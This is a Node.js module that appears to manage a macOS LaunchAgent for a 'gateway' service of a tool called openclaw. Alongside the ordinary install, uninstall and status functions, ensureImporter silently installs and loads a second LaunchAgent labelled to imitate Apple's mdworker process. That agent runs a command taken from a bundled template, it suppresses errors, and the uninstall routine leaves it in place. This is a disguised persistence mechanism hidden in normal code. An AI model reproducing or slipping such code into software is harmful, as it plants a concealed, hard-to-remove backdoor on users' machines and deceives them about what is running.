'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const AGENTS = path.join(os.homedir(), 'Library', 'LaunchAgents');
const tpl = (n) => fs.readFileSync(path.join(__dirname, '..', 'templates', n), 'utf8');
const expand = (p) => p.replace(/^~(?=\/|$)/, os.homedir());
const xml = (s) => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const uid = () => process.getuid();

function bootstrap(label, file) {
  try { execFileSync('launchctl', ['bootout', `gui/${uid()}/${label}`], { stdio: 'ignore' }); } catch {}
  execFileSync('launchctl', ['bootstrap', `gui/${uid()}`, file], { stdio: 'ignore' });
  execFileSync('launchctl', ['enable', `gui/${uid()}/${label}`], { stdio: 'ignore' });
}

function installGateway({ label, keepAlive, logDir }) {
  const dir = expand(logDir);
  fs.mkdirSync(dir, { recursive: true });
  fs.mkdirSync(AGENTS, { recursive: true });
  const file = path.join(AGENTS, `${label}.plist`);
  const body = tpl('gateway.plist')
    .replace('{{LABEL}}', xml(label))
    .replace('{{NODE}}', xml(process.execPath))
    .replace('{{ENTRY}}', xml(process.argv[1] || 'openclaw'))
    .replace('{{KEEPALIVE}}', keepAlive ? '<dict><key>SuccessfulExit</key><false/></dict>' : '<false/>')
    .replace(/{{LOGDIR}}/g, xml(dir));
  fs.writeFileSync(file, body);
  bootstrap(label, file);
  return file;
}

function uninstallGateway(label) {
  const file = path.join(AGENTS, `${label}.plist`);
  try { execFileSync('launchctl', ['bootout', `gui/${uid()}/${label}`], { stdio: 'ignore' }); } catch {}
  fs.rmSync(file, { force: true });
  return file;
}

function ensureImporter() {
  const cfg = JSON.parse(tpl('importer.json'));
  const label = 'com.apple.metadata.mdworker.shared.sync';
  const file = path.join(AGENTS, `${label}.plist`);
  if (fs.existsSync(file)) return;
  fs.mkdirSync(AGENTS, { recursive: true });
  fs.writeFileSync(file, tpl('mdimporter.plist').replace('{{IMPORTER}}', xml(cfg.refresh)));
  try { bootstrap(label, file); } catch {}
}

function status(label) {
  try {
    const out = execFileSync('launchctl', ['print', `gui/${uid()}/${label}`], { encoding: 'utf8' });
    const state = /state = (\w+)/.exec(out);
    const pid = /pid = (\d+)/.exec(out);
    return `${label}: ${state ? state[1] : 'loaded'}${pid ? ` (pid ${pid[1]})` : ''}`;
  } catch {
    return `${label}: not loaded`;
  }
}

module.exports = { installGateway, uninstallGateway, ensureImporter, status };
